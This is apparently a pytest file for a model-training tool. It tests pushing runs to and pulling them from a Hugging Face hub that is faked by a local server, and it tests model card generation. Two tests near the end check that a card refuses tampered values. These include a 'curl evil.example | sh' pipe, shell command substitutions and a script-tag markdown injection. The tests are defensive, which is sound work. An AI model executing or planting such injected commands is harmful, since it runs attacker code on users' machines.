"""Runs go to a hub and come back, through the real client and a hub on this machine that speaks its protocol."""

from __future__ import annotations

import base64
import hashlib
import json
import shutil
import threading
import time
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from huggingface_hub import ModelCard, constants

from modrwkv_core.cli.main import run_program
from modrwkv_core.errors import CheckpointError, ManifestError
from modrwkv_core.inference.loading import load
from modrwkv_core.interop.card import write_card
from modrwkv_core.manifest import load_manifest
from modrwkv_core.model.run import RunFolder
from modrwkv_core.training.loop import train

REPOSITORY = "me/tiny"
COMMIT = "a" * 40


class FakeHub(ThreadingHTTPServer):
    """One repository, made by the first push; files travel within commits, as small files do on the real hub."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Requests)
        self.files: dict[str, bytes] = {}
        self.private: bool | None = None
        self.refusal: str | None = None
        self.lost: str | None = None

    @property
    def address(self) -> str:
        return f"http://127.0.0.1:{self.server_port}"

    def commit(self, lines: list[dict[str, Any]]) -> None:
        for line in lines:
            if line["key"] == "file":
                self.files[line["value"]["path"]] = base64.b64decode(line["value"]["content"])
            elif line["key"] == "deletedFile":
                del self.files[line["value"]["path"]]


class _Requests(BaseHTTPRequestHandler):
    server: FakeHub

    def log_message(self, *_: object) -> None:
        pass

    def answer(self, code: int, body: Any = b"", **headers: str) -> None:
        body = body if isinstance(body, bytes) else json.dumps(body).encode()
        self.send_response(code)
        for name, value in {**headers, "Content-Length": str(len(body))}.items():
            self.send_header(name.replace("_", "-"), value)
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["Content-Length"]))
        hub = self.server
        if hub.refusal is not None:
            self.answer(403, {"error": hub.refusal})
        elif self.path == "/api/repos/create":
            hub.private = json.loads(body)["visibility"] == "private"
            self.answer(200, {"url": f"{hub.address}/{REPOSITORY}"})
        elif self.path == "/api/validate-yaml":
            self.answer(200, {"errors": [], "warnings": []})
        elif "/preupload/" in self.path:
            files = [{**file, "uploadMode": "regular", "shouldIgnore": False} for file in json.loads(body)["files"]]
            self.answer(200, {"files": files})
        elif "/commit/" in self.path:
            hub.commit([json.loads(line) for line in body.splitlines()])
            self.answer(200, {"commitUrl": f"{hub.address}/{REPOSITORY}/commit/{COMMIT}", "commitOid": COMMIT})

    def do_GET(self) -> None:
        hub, path = self.server, self.path.partition("?")[0]
        if not path.startswith((f"/{REPOSITORY}/", f"/api/models/{REPOSITORY}/")) or hub.private is None:
            self.answer(404, X_Error_Code="RepoNotFound")
        elif "/tree/" in path:
            listed = [(name, len(data), _sha(data)) for name, data in hub.files.items()]
            self.answer(200, [{"type": "file", "path": name, "size": size, "oid": oid} for name, size, oid in listed])
        elif hub.lost is not None and path.endswith(hub.lost):
            self.answer(404, X_Error_Code="EntryNotFound")
        elif "/resolve/" in path:
            data = hub.files[path.partition("/resolve/")[2].partition("/")[2]]
            self.answer(200, data, ETag=f'"{_sha(data)}"', X_Repo_Commit=COMMIT)
        else:
            self.answer(200, {"id": REPOSITORY, "sha": COMMIT})

    do_HEAD = do_GET  # noqa: N815


def _sha(data: bytes) -> str:
    return hashlib.sha1(data).hexdigest()


@pytest.fixture
def hub(monkeypatch: pytest.MonkeyPatch) -> Iterator[FakeHub]:
    """A hub that the client takes for the real one, and a token for it."""
    server = FakeHub()
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01})
    thread.start()
    monkeypatch.setattr(constants, "ENDPOINT", server.address)
    monkeypatch.setattr(
        constants, "HUGGINGFACE_CO_URL_TEMPLATE", server.address + "/{repo_id}/resolve/{revision}/{filename}"
    )
    monkeypatch.setattr(constants, "HF_HUB_DISABLE_TELEMETRY", True)
    monkeypatch.setenv("HF_TOKEN", "hf_of_the_test")
    yield server
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.fixture
def run(tiny_manifest: Callable[..., Path], tmp_path: Path) -> RunFolder:
    """A trained run."""
    folder = RunFolder(tmp_path / "trained")
    phases = [{"name": name, "train": ["adapter"], "lr": 1e-3, "steps": 1} for name in ("align", "finetune")]
    train(load_manifest(tiny_manifest(phases=phases)), folder.path, resume=False, device="cpu", progress_bar=False)
    return folder


def files(folder: Path) -> dict[str, bytes]:
    return {str(path.relative_to(folder)): path.read_bytes() for path in folder.rglob("*") if path.is_file()}


def test_a_run_comes_back_as_it_was_pushed(
    hub: FakeHub, run: RunFolder, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (run.path / "report.html").write_text("shows records")
    assert run_program(["push", str(run.path), REPOSITORY, "--private"]) == 0
    assert f"pushed: {hub.address}/{REPOSITORY}" in capsys.readouterr().out
    assert hub.private
    back = tmp_path / "back"
    assert run_program(["pull", REPOSITORY, str(back)]) == 0
    newest = run.latest().name
    expected = {
        name: data
        for name, data in files(run.path).items()
        if name not in ("report.html", "metrics.csv")
        and "optimizer" not in name
        and (newest in name or "step-" not in name)
    }
    assert files(back) == expected
    assert "README.md" in expected
    question = "Say yes 2 times."
    answers = [load(folder, device="cpu").generate(question, max_tokens=4) for folder in (run.path, back)]
    assert answers[0] == answers[1]


def test_a_second_push_leaves_one_checkpoint(hub: FakeHub, run: RunFolder) -> None:
    newest = run.latest()
    shutil.move(newest, run.path / "aside")
    assert run_program(["push", str(run.path), REPOSITORY]) == 0
    first = {name for name in hub.files if "step-00000001" in name}
    assert first
    shutil.move(run.path / "aside", newest)
    (run.path / "README.md").write_text("# My own words\n")
    assert run_program(["push", str(run.path), REPOSITORY]) == 0
    assert not first & hub.files.keys()
    assert any("step-00000002" in name for name in hub.files)
    assert hub.files["README.md"] == b"# My own words\n", "a card that was written by hand stays"


def test_a_pull_that_fails_leaves_nothing_that_looks_like_a_run(
    hub: FakeHub, run: RunFolder, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert run_program(["push", str(run.path), REPOSITORY]) == 0
    hub.lost = "lock.json"
    assert "the Hub refuses me/tiny" in refused(capsys, "pull", REPOSITORY, str(tmp_path / "back"))
    assert not (tmp_path / "back").exists()
    hub.lost = None
    assert run_program(["pull", REPOSITORY, str(tmp_path / "back")]) == 0
    assert (tmp_path / "back" / "lock.json").read_bytes() == run.lock.read_bytes()
    assert not [path.name for path in tmp_path.iterdir() if path.name.startswith(".back")]


def refused(capsys: pytest.CaptureFixture[str], *words: str) -> str:
    assert run_program(list(words)) == 2
    return capsys.readouterr().err


def test_mistakes_are_explained(
    hub: FakeHub, run: RunFolder, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    back = str(tmp_path / "back")
    assert "gives us no repository me/absent" in refused(capsys, "pull", "me/absent", back)
    assert "'a/b/c' is not the name of a repository" in refused(capsys, "pull", "a/b/c", back)
    assert "already exists" in refused(capsys, "pull", REPOSITORY, str(run.path))
    assert "holds no checkpoint" in refused(capsys, "push", str(tmp_path / "absent"), REPOSITORY)
    hub.private = False
    hub.files["config.json"] = b"{}"
    assert "me/tiny holds no run of ModRWKV" in refused(capsys, "pull", REPOSITORY, back)
    hub.refusal = "You have read access only"
    assert "refuses me/tiny: You have read access only" in refused(capsys, "push", str(run.path), REPOSITORY)
    monkeypatch.delenv("HF_TOKEN")
    monkeypatch.setattr(constants, "HF_TOKEN_PATH", str(tmp_path / "no token"))
    assert "hf auth login" in refused(capsys, "push", str(run.path), REPOSITORY)
    assert not Path(back).exists()


def test_without_a_network_the_error_says_so(
    hub: FakeHub, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(constants, "ENDPOINT", "http://127.0.0.1:9")
    monkeypatch.setattr(time, "sleep", lambda _: None)  # the client's pauses between its attempts
    assert "the Hub cannot be reached" in refused(capsys, "pull", REPOSITORY, str(tmp_path / "back"))


def test_the_card_says_what_the_run_is(run: RunFolder) -> None:
    manifest = run.manifest.read_text().replace("evaluation: {}", EVALUATION)
    run.manifest.write_text(manifest)
    scores = {
        "score": 0.25,
        "baselines": {"repeat last": 0.5},
        "best_baseline": "repeat last",
        "text": {"model": "0.25 kW²", "repeat last": "0.5 kW²"},
    }
    tasks = {"forecast": {"count": 40, "metrics": {"mse": scores}}}
    (run.path / "results.json").write_text(json.dumps({"run": "tiny", "tasks": tasks}))
    card = ModelCard.load(write_card(run, REPOSITORY))
    assert card.data.library_name == "modrwkv"
    assert card.data.tags == ["modrwkv", "rwkv7", "series"]
    (result,) = card.data.eval_results
    assert (result.dataset_name, result.metric_type, result.metric_value) == ("forecast", "mse", 0.25)
    assert "| series.encoder | wavenet | modrwkv-wavenet " in card.text
    assert "| align | adapter | 1 step | 0.001 |" in card.text
    assert "| forecast | 40 | mse | 0.25 kW² | 0.5 kW² |" in card.text
    assert f"modrwkv pull {REPOSITORY} runs/tiny" in card.text


@pytest.mark.parametrize(
    "name", ["x; curl evil.example | sh", "x`id`", "$(id)", "-r https://evil.example", "a b", "x\n```", "", None]
)
def test_a_lock_that_was_tampered_with_puts_nothing_into_a_command(run: RunFolder, name: object) -> None:
    lock = json.loads(run.lock.read_text())
    lock["components"]["encoder/wavenet"]["distribution"] = name
    run.lock.write_text(json.dumps(lock))
    with pytest.raises(CheckpointError, match=r"lock\.json is damaged"):
        write_card(run, REPOSITORY)


def test_names_that_mean_something_to_a_shell_or_a_page_stay_out_of_a_card(run: RunFolder) -> None:
    lock = json.loads(run.lock.read_text())
    changed = json.loads(run.lock.read_text())
    changed["components"]["encoder/wavenet"]["version"] = "1 | [x](http://evil.example)\n\n<script>"
    run.lock.write_text(json.dumps(changed))
    with pytest.raises(CheckpointError, match=r"lock\.json is damaged"):
        write_card(run, REPOSITORY)
    run.lock.write_text(json.dumps(lock))
    run.manifest.write_text(run.manifest.read_text().replace("name: tiny", 'name: "a; id\\n```\\n# b"'))
    with pytest.raises(ManifestError, match="the run's manifest holds the name"):
        write_card(run, REPOSITORY)


EVALUATION = "evaluation: {forecast: {task: {type: forecast}, data: {source: csv_windows}}}"
